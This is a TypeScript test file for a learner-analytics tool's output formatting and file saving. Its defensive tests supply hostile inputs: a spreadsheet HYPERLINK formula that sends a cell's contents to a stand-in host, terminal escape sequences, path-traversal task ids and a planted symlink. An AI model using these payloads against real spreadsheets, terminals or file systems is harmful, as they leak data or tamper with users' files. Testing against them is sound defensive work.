import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {describe, it} from 'node:test';
import stringWidth from 'string-width';
import {formatResult, openResultFile, resultWriter, saveResult, terminalTable, type TaskResult} from '../../source/tasks/index.js';
import {outProblem, resultFileBase} from '../../source/tasks/output.js';
import {projectRoot} from '../helpers/shared.js';
import {tempDir} from '../helpers/temp-dir.js';

const result: TaskResult = {
	taskId: 'learners',
	columns: [
		{name: 'username', kind: 'text'},
		{name: 'events', kind: 'number'},
		{name: 'last_seen', kind: 'timestamp'},
	],
	rows: [
		['ann, "the" first', 12, '2024-03-04 09:00:00.123456'],
		['борис|b\nline', 7, null],
	],
	parameters: {course: 'course-v1:Uni+PHYS+2024'},
	elapsedMs: 1,
};

describe('formatResult', () => {
	it('csv quotes with a real CSV writer, BOM on request', () => {
		const csv = formatResult(result, 'csv');
		assert.equal(csv, 'username,events,last_seen\n"ann, ""the"" first",12,2024-03-04 09:00:00.123456\n"борис|b\nline",7,\n');
		assert.ok(formatResult(result, 'csv', {bom: true}).startsWith('\uFEFFusername'));
		// A lone CR is a line end to some readers: quoted as \n is.
		assert.equal(formatResult({...result, rows: [['line 1\r', 1, null]]}, 'csv'), 'username,events,last_seen\n"line 1\r",1,\n');
	});

	it('csv for Excel (--bom) makes a text cell that starts a formula text; numbers and plain CSV stay exact', () => {
		const hostile: TaskResult = {
			...result,
			rows: [
				['=HYPERLINK("http://x.example/?"&A1,"click")', -3, null],
				['+1-555', 0, '@SUM(A1)'],
				['-x', -0.5, '\tcmd'],
				['ann=@+-', 1, null],
			],
		};
		assert.equal(
			formatResult(hostile, 'csv', {bom: true}),
			'\uFEFFusername,events,last_seen\n"\'=HYPERLINK(""http://x.example/?""&A1,""click"")",-3,\n\'+1-555,0,\'@SUM(A1)\n\'-x,-0.5,\'\tcmd\nann=@+-,1,\n',
		);
		assert.ok(formatResult(hostile, 'csv').startsWith('username,events,last_seen\n"=HYPERLINK('), 'without --bom the cells are exact');
	});

	it('json: one object per row, numbers as numbers, null kept', () => {
		assert.deepEqual(JSON.parse(formatResult(result, 'json')), [
			{username: 'ann, "the" first', events: 12, last_seen: '2024-03-04 09:00:00.123456'},
			{username: 'борис|b\nline', events: 7, last_seen: null},
		]);
	});

	it('json refuses two columns of one name, which one object per row cannot hold (CSV keeps both)', () => {
		const counts: TaskResult = {...result, columns: [{name: 'count', kind: 'number'}, {name: 'count', kind: 'number'}], rows: [[5, 3]]};
		assert.throws(() => formatResult(counts, 'json'), /Two columns are named "count", and JSON keys a row's values by column name/);
		assert.equal(formatResult(counts, 'csv'), 'count,count\n5,3\n');
	});

	it('markdown escapes pipes and line breaks, right-aligns numbers', () => {
		assert.equal(
			formatResult(result, 'md'),
			'| username | events | last_seen |\n| --- | ---: | --- |\n| ann, "the" first | 12 | 2024-03-04 09:00:00.123456 |\n| борис\\|b<br>line | 7 | &lt;null> |\n',
		);
	});

	it('markdown writes a lone CR as a line break too: Markdown ends a line there, which cut the row in two', () => {
		const names: TaskResult = {...result, columns: [{name: 'username', kind: 'text'}], rows: [['cr\ruser'], ['crlf\r\nuser']]};
		assert.equal(formatResult(names, 'md'), '| username |\n| --- |\n| cr<br>user |\n| crlf<br>user |\n');
	});

	it('markdown writes & and < as entities: Markdown renders HTML, and a name with <br> looked like a line break', () => {
		const names: TaskResult = {...result, columns: [{name: 'username', kind: 'text'}], rows: [['<b>bold</b>'], ['a<br>b'], ['A&amp;B'], ['x > y']]};
		assert.equal(formatResult(names, 'md'), '| username |\n| --- |\n| &lt;b>bold&lt;/b> |\n| a&lt;br>b |\n| A&amp;amp;B |\n| x > y |\n');
	});

	it("markdown escapes the inline syntax a cell would render (a learner named __init__ came out bold): the cell reads as the CSV's text, ids, times and numbers as written", () => {
		const cells: Array<[string, string]> = [
			['__init__', '\\_\\_init\\_\\_'],
			['a*b*c', 'a\\*b\\*c'],
			['ev `type`', 'ev \\`type\\`'],
			// A link needs its ]( (a table holds no definitions for [a] to link to): a JSON array stays as written.
			['[text](url) ![i](u) ["a", 1]', '[text\\](url) ![i\\](u) ["a", 1]'],
			['~x~ ~~y~~', '\\~x\\~ \\~\\~y\\~\\~'],
			['$x$', '\\$x\\$'],
			['a\\*b', 'a\\\\\\*b'],
			// A literal autolink is read from the raw text (its \_ and &amp; were shown as such): as text, escapes work.
			['http://x.org/_x_?a=1&b=2', 'http\\://x.org/\\_x\\_?a=1&amp;b=2'],
			['see WWW.x.org', 'see WWW\\.x.org'],
			// A run of _ between letters or digits neither opens nor closes emphasis.
			['Demo_Course foo__bar__ _a борис_иван', 'Demo_Course foo__bar\\_\\_ \\_a борис_иван'],
			['course-v1:edX+DemoX+Demo_Course', 'course-v1:edX+DemoX+Demo_Course'],
			['2026-12-06T10:21:05Z -2.5 # > 1. x:y//z', '2026-12-06T10:21:05Z -2.5 # > 1. x:y//z'],
		];
		const names: TaskResult = {...result, columns: [{name: 'user_id', kind: 'text'}], rows: cells.map(([text]) => [text])};
		assert.equal(formatResult(names, 'md'), `| user_id |\n| --- |\n${cells.map(([, written]) => `| ${written} |\n`).join('')}`);
	});

	it('an identifier column is laid out as a number (right-aligned), though shown without separators in the app', () => {
		const ids: TaskResult = {...result, columns: [{name: 'user_id', kind: 'id'}, {name: 'username', kind: 'text'}], rows: [[7, 'ann'], [100119, 'борис']]};
		assert.equal(formatResult(ids, 'md'), '| user_id | username |\n| ---: | --- |\n| 7 | ann |\n| 100119 | борис |\n');
		assert.equal(terminalTable(ids).text, 'user_id  username\n-------  --------\n      7  ann\n 100119  борис\n');
	});

	it('written a batch at a time (a streamed task), each format is the text of the whole result', () => {
		for (const [format, bom] of [['csv', false], ['csv', true], ['json', false], ['md', false]] as const) {
			const writer = resultWriter(result.columns, format, {bom});
			const batches = writer.start() + writer.rows(result.rows.slice(0, 1)) + writer.rows([]) + writer.rows(result.rows.slice(1)) + writer.end();
			assert.equal(batches, formatResult(result, format, {bom}), `${format}${bom ? ' with BOM' : ''}`);
		}
		// The layout JSON.stringify gives a whole array, which the files had before they were streamed.
		const objects = result.rows.map((row) => Object.fromEntries(result.columns.map((column, index) => [column.name, row[index]])));
		assert.equal(formatResult(result, 'json'), `${JSON.stringify(objects, null, 2)}\n`);
		const none = resultWriter(result.columns, 'json');
		assert.equal(none.start() + none.end(), '[]\n');
	});

	it('JSON is written without an object made and pretty-printed a row (learner-unit-events at 10M, 475k rows: 3.1 s, keys answered late while it ran), and a U+2028 in a value kept as it is', () => {
		const rows: TaskResult['rows'] = [...result.rows, ['x\u2028"\\', Number.NaN, 'true'], [null, -0.5, '']];
		const wide = {...result, rows};
		// NaN as the text CSV writes: JSON has no NaN, and null (JSON.stringify's) is NULL.
		const objects = rows.map((row) => Object.fromEntries(result.columns.map((column, index) => [column.name, Number.isNaN(row[index]) ? 'NaN' : row[index]])));
		const expected = `${JSON.stringify(objects, null, 2)}\n`;
		const stringify = JSON.stringify;
		let prettyPrinted = 0;
		JSON.stringify = ((value: unknown, replacer?: never, space?: string | number) => {
			if (space !== undefined) prettyPrinted++;
			return stringify(value, replacer, space);
		}) as typeof JSON.stringify;
		let written: string;
		try {
			written = formatResult(wide, 'json');
		} finally {
			JSON.stringify = stringify;
		}
		assert.equal(written, expected);
		assert.equal(prettyPrinted, 0);
	});

	it('table aligns by display width, numbers to the right, timestamps to the second (the files keep them whole)', () => {
		const lines = terminalTable(result).text.split('\n');
		assert.equal(lines[0], 'username          events  last_seen');
		assert.equal(lines[1], '----------------  ------  -------------------');
		assert.equal(lines[2], 'ann, "the" first      12  2024-03-04 09:00:00');
		assert.equal(lines[3], 'борис|b line           7  <null>');
	});

	it('table cut to the terminal keeps its columns in line where a wide character straddles a cut (a line was a cell too wide)', () => {
		const names: TaskResult = {...result, columns: [{name: 'n', kind: 'number'}, {name: 'username', kind: 'text'}, {name: 'events', kind: 'number'}], rows: [[1, '学生王小明学生王小明学生王小明', 12], [2, 'Иван😀Петров😀Иванович', 7]]};
		for (let maxWidth = 24; maxWidth <= 30; maxWidth++) {
			const lines = terminalTable(names, maxWidth).text.split('\n').filter(Boolean);
			assert.deepEqual(new Set(lines.map((line) => stringWidth(line))).size, 1, `${maxWidth}: ${lines.join(' | ')}`);
			assert.ok(stringWidth(lines[0]!) <= maxWidth, `${maxWidth}: ${lines[0]}`);
		}
	});

	it('table shows control characters as U+FFFD: a rejected line of binary junk cleared the screen, set the title, shifted the charset', () => {
		const junk: TaskResult = {
			...result,
			rows: [
				['{"a":1\u001b[2J\u001b]0;pwned\u0007}', 1, null],
				['\u000e\u0008x\u007f\u009b31m', 2, null],
			],
		};
		const lines = terminalTable(junk).text.split('\n');
		assert.equal(lines[2], '{"a":1�[2J�]0;pwned�}       1  <null>');
		assert.equal(lines[3], '��x��31m                    2  <null>');
		assert.ok(formatResult(junk, 'csv').includes('\u001b[2J'), 'the files keep the cells exact');
	});
});

describe('terminalTable (run, files and tasks on a terminal)', () => {
	const url = (unit: number) => `https://courses.openedu.ru/courses/course-v1:spbstu+PHYLOS+fall_2018/courseware/16622c2e589346af3611ef7ad3260533/3bcbaef8893bf153bab9e4b82009474c/${unit}`;
	const units: TaskResult = {
		taskId: 'learner-unit-events',
		columns: [{name: 'username', kind: 'text'}, {name: 'url', kind: 'text'}, {name: 'name', kind: 'text'}, {name: 'event_type', kind: 'text'}, {name: 'events', kind: 'number'}],
		rows: [
			['a-rather-long-learner-name', url(1), '1.1 Введение в курс', 'play_video', 1234567],
			['b', url(2), null, 'edx.ui.lms.outline.selected', 2],
		],
		parameters: {},
		elapsedMs: 1,
	};

	it('an empty result says (no rows) under its header, as the app does (the header and dashes alone looked cut off); CSV stays a header', () => {
		const empty = {...units, columns: units.columns.slice(3), rows: []};
		assert.equal(terminalTable(empty).text, 'event_type  events\n----------  ------\n(no rows)\n');
		assert.equal(formatResult(empty, 'csv'), 'event_type,events\n');
	});

	it('cuts the text values that would wrap in their middle, the long URL most, and keeps the first column and the numbers whole', () => {
		const {text, cut} = terminalTable(units, 160);
		const lines = text.trimEnd().split('\n');
		assert.equal(cut, true);
		for (const line of lines) assert.ok(stringWidth(line) <= 160, `${stringWidth(line)}: ${line}`);
		assert.match(lines[2]!, /^a-rather-long-learner-name  https:\/\/courses\.openedu\.ru\/c\S*…\S*9474c\/1 .* 1,234,567$/);
		assert.match(lines[3]!, /^b {27}https:.*…\S*9474c\/2 /);
		// Proportional: of the 76 columns too many, the URL (147 wide, 135 above 12) gives 66, the name and the type (7 and 15 above 12) 3 and 7.
		assert.deepEqual(lines[1]!.split('  ').map((dashes) => dashes.length), [26, 81, 16, 20, 9]);
		assert.match(lines[2]!, /  1\.1 Введ… в курс  play_video {12}1,234,567$/);
	});

	it('lays out half a million rows (learner-unit-events at 10M events on a terminal: "Maximum call stack size exceeded")', () => {
		const many: TaskResult = {...units, columns: units.columns.slice(0, 2), rows: Array.from({length: 500_000}, (_, n) => [`learner-${n}`, url(n)])};
		const {text} = terminalTable(many, 120);
		assert.equal(text.split('\n').length, 500_003, 'header, rule, rows and the final newline');
	});

	it('leaves a table whole when cutting its text cannot make it fit, and when it fits', () => {
		const numbers: TaskResult = {...units, columns: [{name: 'username', kind: 'text'}, ...Array.from({length: 8}, (_, n) => ({name: `count_${n}`, kind: 'number' as const}))], rows: [['ann', ...Array.from({length: 8}, () => 123456789012)]]};
		assert.deepEqual(terminalTable(numbers, 60), terminalTable(numbers));
		assert.equal(terminalTable(numbers, 60).cut, false);
		assert.deepEqual(terminalTable(units, 400), terminalTable(units));
		assert.equal(terminalTable(units, 400).cut, false);
	});
});

describe('saveResult', () => {
	it('writes under a Windows-safe generated name and never overwrites', async () => {
		const dir = tempDir('result-');
		const first = await saveResult(result, {format: 'csv', resultDir: dir});
		const second = await saveResult(result, {format: 'csv', resultDir: dir});
		assert.equal(first.rows, 2);
		assert.equal(path.dirname(first.path), dir);
		assert.match(path.basename(first.path), /^learners_course-v1_Uni_PHYS_2024_\d{8}T\d{6}Z\.csv$/);
		assert.notEqual(second.path, first.path);
		assert.equal(fs.readFileSync(first.path, 'utf8'), formatResult(result, 'csv'));
		assert.deepEqual(fs.readdirSync(dir).filter((name) => name.endsWith('.tmp')), []);
	});

	it('a result of many batches of rows is saved as the text of the whole, in every format (json: one array)', async () => {
		const dir = tempDir('result-');
		const many: TaskResult = {...result, rows: Array.from({length: 25_001}, (_, index) => [index % 7 === 0 ? `=learner ${index}` : `learner ${index}`, index, index % 3 === 0 ? null : 'b'])};
		for (const [format, bom] of [['json', false], ['csv', false], ['csv', true], ['md', false]] as const) {
			const saved = await saveResult(many, {format, bom, resultDir: dir});
			assert.equal(saved.rows, 25_001);
			assert.equal(fs.readFileSync(saved.path, 'utf8'), formatResult(many, format, {bom}), `${format}${bom ? ' with BOM' : ''}`);
		}
		assert.equal(JSON.parse(fs.readFileSync(fs.readdirSync(dir).map((name) => path.join(dir, name)).find((name) => name.endsWith('.json'))!, 'utf8')).length, 25_001);
	});

	it('says the rows written after each batch of 1,000, and the event loop turns between batches (the app\'s keys wait for one batch, not the save)', async () => {
		const dir = tempDir('result-');
		const rows: TaskResult = {...result, rows: Array.from({length: 3_500}, (_, index) => [`learner ${index}`, index, null])};
		const progress: number[] = [];
		// What other work (a key, a frame) saw of the save while it ran: a callback queued again every turn.
		const seen: number[] = [];
		let saving = true;
		const tick = () => {
			seen.push(progress.at(-1) ?? 0);
			if (saving) setImmediate(tick);
		};
		setImmediate(tick);
		const saved = await saveResult(rows, {format: 'csv', resultDir: dir, onProgress: (written) => progress.push(written)});
		saving = false;
		assert.deepEqual(progress, [1000, 2000, 3000, 3500]);
		for (const written of [1000, 2000, 3000]) assert.ok(seen.includes(written), `a turn of the loop after ${written} rows (saw ${[...new Set(seen)].join(', ')})`);
		assert.equal(fs.readFileSync(saved.path, 'utf8'), formatResult(rows, 'csv'));
	});

	it('a hostile course or task id cannot leave the result folder', async () => {
		const dir = tempDir('result-');
		const saved = await saveResult({...result, taskId: '../../evil', parameters: {course: '..\\..\\x:y+z/../', user: 'a:b+c/../d'}}, {format: 'json', resultDir: dir});
		assert.equal(path.dirname(saved.path), dir);
		assert.doesNotMatch(path.basename(saved.path), /[:+\\/]|\.\./);
	});

	it('a run for one learner names them, sanitised like the course; all courses and no learner as before', () => {
		const when = new Date('2024-03-05T10:11:12.345Z');
		const learnerPath = {taskId: 'learner-path', parameters: {course: 'course-v1:spbstu+PHYLOS+fall_2018', user: 'jolly.clever+sable:1', tz: 'UTC'}};
		assert.equal(resultFileBase(learnerPath, when), 'learner-path_course-v1_spbstu_PHYLOS_fall_2018_jolly_clever_sable_1_20240305T101112Z');
		assert.equal(resultFileBase({taskId: 'sessions', parameters: {course: '', user: 'борис'}}, when), 'sessions_all_борис_20240305T101112Z', 'letters of any script');
		assert.equal(resultFileBase({taskId: 'sessions', parameters: {course: '', user: ''}}, when), 'sessions_all_20240305T101112Z');
		assert.equal(resultFileBase({taskId: 'learners', parameters: {course: 'c'}}, when), 'learners_c_20240305T101112Z');
	});

	it('result/README.md names the saved files as README.md does (it said <task>__<course>__<timestamp>, the skeleton\'s names)', () => {
		const pattern = /`(<task>_<course\|all>[^`]*)\.csv`/.exec(fs.readFileSync(path.join(projectRoot, 'README.md'), 'utf8'))?.[1];
		assert.ok(pattern, 'README.md gives the pattern of a saved name');
		assert.ok(fs.readFileSync(path.join(projectRoot, 'result', 'README.md'), 'utf8').includes(`\`${pattern}.<csv|json|md>\``), `result/README.md gives ${pattern}.<csv|json|md>`);
	});

	it('a run for a date range names it', () => {
		const when = new Date('2024-03-05T10:11:12.345Z');
		const named = (dates: Record<string, string>) => resultFileBase({taskId: 'active-learners', parameters: {course: 'c', tz: 'UTC', ...dates}}, when);
		assert.equal(named({from: '2018-10-01', to: '2018-10-31'}), 'active-learners_c_2018-10-01_to_2018-10-31_20240305T101112Z');
		assert.equal(named({from: '2018-10-01', to: ''}), 'active-learners_c_from_2018-10-01_20240305T101112Z');
		assert.equal(named({to: '2018-10-31'}), 'active-learners_c_to_2018-10-31_20240305T101112Z');
		assert.equal(resultFileBase({taskId: 'sessions', parameters: {course: '', user: 'bob', from: '2018-10-01', to: '2018-10-31'}}, when), 'sessions_all_bob_2018-10-01_to_2018-10-31_20240305T101112Z');
	});

	it('a run in a zone other than UTC names it (the app in Moscow time and run in UTC saved under names that differed by their timestamps only)', () => {
		const when = new Date('2024-03-05T10:11:12.345Z');
		const named = (parameters: Record<string, string>) => resultFileBase({taskId: 'active-learners', parameters: {course: 'c', ...parameters}}, when);
		assert.equal(named({tz: 'Europe/Moscow'}), 'active-learners_c_Europe_Moscow_20240305T101112Z');
		assert.equal(named({tz: 'Europe/Moscow', from: '2018-10-01', to: '2018-10-31'}), 'active-learners_c_2018-10-01_to_2018-10-31_Europe_Moscow_20240305T101112Z');
		// No + on Windows: Etc/GMT+3 and Etc/GMT-3 stay apart all the same.
		assert.deepEqual([named({tz: 'Etc/GMT+3'}), named({tz: 'Etc/GMT-3'})], ['active-learners_c_Etc_GMT_3_20240305T101112Z', 'active-learners_c_Etc_GMT-3_20240305T101112Z']);
		assert.equal(named({tz: 'UTC'}), 'active-learners_c_20240305T101112Z');
	});

	it('a saved name and its temporary file stay within the 255 bytes a name may have, however long the parts (saving failed with ENAMETOOLONG)', async () => {
		const dir = tempDir('result-');
		// A task of one's own, a Cyrillic course id (2 bytes a letter), a learner and a zone, each over 64 bytes: 264 bytes of name.
		const long: TaskResult = {
			...result,
			taskId: 'learner-unit-events-by-section-and-week-for-the-whole-course-and-more',
			parameters: {course: `course-v1:${'Университет'.repeat(6)}+ФИЗИКА+осень_2018`, user: 'очень_длинное_имя_учащегося_'.repeat(3), from: '2018-10-01', to: '2018-10-31', tz: `America/${'Argentina_'.repeat(8)}`},
		};
		// At one time: two saves either side of a second took names of their own, and no -2.
		const now = new Date();
		const first = await saveResult(long, {format: 'json', resultDir: dir, now});
		const second = await saveResult(long, {format: 'json', resultDir: dir, now});
		for (const saved of [first, second]) assert.ok(Buffer.byteLength(path.basename(saved.path)) <= 255, path.basename(saved.path));
		assert.match(path.basename(second.path), /_\d{8}T\d{6}Z-2\.json$/);
		assert.match(path.basename(first.path), /^learner-unit-events-by\S*-[0-9a-f]{8}_course-v1_Универ\S*-[0-9a-f]{8}_очень_\S*-[0-9a-f]{8}_2018-10-01_to_2018-10-31_America_Argentina\S*-[0-9a-f]{8}_\d{8}T\d{6}Z\.json$/);
		// --out of a name of 254 bytes, which the file system takes: its temporary file's was longer.
		const out = path.join(dir, `${'ж'.repeat(125)}.csv`);
		assert.deepEqual(await saveResult(result, {format: 'csv', out}), {path: out, rows: 2});
		assert.deepEqual(fs.readdirSync(dir).filter((name) => name.endsWith('.tmp')), []);
	});

	it('a part cut to 64 bytes ends in a hash of the whole: two courses that share their first 64 bytes keep names of their own, valid on Windows', () => {
		const when = new Date('2024-03-05T10:11:12.345Z');
		const named = (course: string) => resultFileBase({taskId: 'learners', parameters: {course}}, when);
		const [autumn, spring] = [named(`course-v1:${'Университет'.repeat(3)}+ФИЗ+осень.`), named(`course-v1:${'Университет'.repeat(3)}+ФИЗ+весна.`)];
		assert.notEqual(autumn, spring);
		for (const name of [autumn, spring]) {
			const course = name.slice('learners_'.length, -'_20240305T101112Z'.length);
			assert.match(course, /^course-v1_Университет\S*-[0-9a-f]{8}$/);
			assert.ok(Buffer.byteLength(course) <= 64, course);
			assert.equal(outProblem(path.join(tempDir('result-'), `${name}.csv`), 'win32'), undefined, name);
		}
		// Under 64 bytes, as before.
		assert.equal(named('course-v1:Университет+ФИЗ+осень'), 'learners_course-v1_Университет_ФИЗ_осень_20240305T101112Z');
	});

	it('--out refuses an existing file and keeps it intact', async () => {
		const dir = tempDir('result-');
		const out = path.join(dir, 'mine.md');
		fs.writeFileSync(out, 'keep me');
		await assert.rejects(saveResult(result, {format: 'md', out}), /already exists/);
		assert.equal(fs.readFileSync(out, 'utf8'), 'keep me');
		const fresh = path.join(dir, 'new.md');
		assert.deepEqual(await saveResult(result, {format: 'md', out: fresh}), {path: fresh, rows: 2});
	});

	it("writes first to a file of its own: a link under the name it used (the pid's, beside --out) is not written through (what it led to was emptied, and linked in as the result)", {skip: process.platform === 'win32' ? 'skipped: makes symlinks (rights on Windows)' : false}, async () => {
		const dir = tempDir('result-');
		const precious = path.join(dir, 'thesis.txt');
		fs.writeFileSync(precious, 'four years of work');
		const planted = path.join(dir, `.x.csv.${process.pid}.tmp`);
		fs.symlinkSync(precious, planted);
		const out = path.join(dir, 'x.csv');
		assert.deepEqual(await saveResult(result, {format: 'csv', out}), {path: out, rows: 2});
		assert.equal(fs.readFileSync(precious, 'utf8'), 'four years of work');
		assert.deepEqual([fs.lstatSync(out).isFile(), fs.readFileSync(out, 'utf8')], [true, formatResult(result, 'csv')]);
		assert.equal(fs.readlinkSync(planted), precious, 'left as it was');
	});

	it("--out on Windows refuses a name Windows cannot hold: Node writes through \\\\?\\, so NUL (Windows' /dev/null) became a file of that name that Explorer cannot delete", () => {
		const dir = tempDir('result-');
		const refusal = (name: string) => outProblem(path.join(dir, name), 'win32');
		assert.equal(refusal('NUL'), `--out ${path.join(dir, 'NUL')}: NUL is a device on Windows (as is NUL with any extension), not a file name; choose another file name.`);
		assert.match(refusal('con.csv')!, /: con is a device on Windows/);
		assert.match(refusal('Com1 .tar.gz')!, /: Com1 is a device on Windows/);
		assert.match(refusal('lpt9')!, /: lpt9 is a device on Windows/);
		assert.match(refusal('report.')!, /: Windows names cannot end in a dot or a space; choose another file name\.$/);
		assert.match(refusal('report.csv ')!, /cannot end in a dot or a space/);
		for (const name of ['a<b.csv', 'a|b.csv', 'what?.csv', 'a*.csv', 'tab\there.csv']) assert.match(refusal(name)!, /cannot hold < > : " \| \? \* or a control character/, name);
		for (const name of ['nullable.csv', 'console.md', 'com10.csv', 'auxiliary.json', 'result.csv', 'борис.csv']) assert.equal(refusal(name), undefined, name);
		assert.equal(outProblem(path.join(dir, 'NUL'), 'linux'), undefined, 'elsewhere a name like any other');
	});

	it('--out makes no folder (a typo in its path made one and said "Saved"); --save makes result/ and its parents', async () => {
		const dir = tempDir('result-');
		const typo = path.join(dir, 'nodir', 'x.csv');
		await assert.rejects(saveResult(result, {format: 'csv', out: typo}), {message: `The folder ${path.join(dir, 'nodir')} does not exist; create it first.`});
		assert.deepEqual(fs.readdirSync(dir), [], 'nothing was made');
		const saved = await saveResult(result, {format: 'csv', resultDir: path.join(dir, 'project', 'result')});
		assert.equal(path.dirname(saved.path), path.join(dir, 'project', 'result'));
	});

	it('a result file written in pieces appears only when finished; discarded, it leaves nothing', async () => {
		const dir = tempDir('result-');
		const dropped = await openResultFile(result, {format: 'csv', resultDir: dir});
		await dropped.write('half');
		assert.deepEqual(fs.readdirSync(dir).filter((name) => !name.endsWith('.tmp')), [], 'nothing under a result name while it is written');
		await dropped.discard();
		assert.deepEqual(fs.readdirSync(dir), []);
		const kept = await openResultFile(result, {format: 'csv', resultDir: dir});
		await kept.write('a,b\n');
		await kept.write('1,2\n');
		const saved = await kept.finish();
		assert.deepEqual(fs.readdirSync(dir), [path.basename(saved)]);
		assert.equal(fs.readFileSync(saved, 'utf8'), 'a,b\n1,2\n');
	});

	it('a folder that cannot take the file is named, not the temporary file written first', {skip: process.platform === 'linux' ? false : 'skipped: needs /proc (Linux)'}, async () => {
		// Before: "Cannot write the result file (ENOENT): ENOENT: no such file or directory, open '/proc/.x.csv.12795.tmp'."
		await assert.rejects(saveResult(result, {format: 'csv', out: '/proc/x.csv'}), {message: 'Cannot write the result file in /proc: ENOENT: no such file or directory.'});
	});
});
